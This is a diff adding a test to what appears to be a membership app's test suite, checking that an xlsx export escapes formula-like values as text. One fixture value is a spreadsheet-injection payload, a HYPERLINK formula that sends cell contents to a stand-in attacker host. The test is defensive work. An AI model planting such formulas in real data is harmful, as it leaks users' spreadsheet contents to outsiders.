@@ -502,3 +502,13 @@ def test_register_many_names_the_member_at_fault_and_saves_nothing(tree, member,
         member_services.members_register_many(members=[_new(tree.grassroots_b1x, "Đúng"), bad])
     assert (error.value.index, error.value.field) == (1, field)
     assert Membership.objects.count() == 1
+
+
+def test_export_writes_a_hostile_name_as_text(tree, officer_client):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    _register(tree.grassroots_a1x, person=PersonData(hostile, "Hằng"), card_number="@QT-1")
+    response = officer_client.get(reverse("unions:member_list"), {"export": "xlsx"})
+    sheet = load_workbook(BytesIO(response.content)).active
+    name, card = sheet["A2"], sheet["H2"]
+    assert name.data_type == card.data_type == "s"
+    assert name.value.startswith("'=HYPERLINK(") and card.value == "'@QT-1"
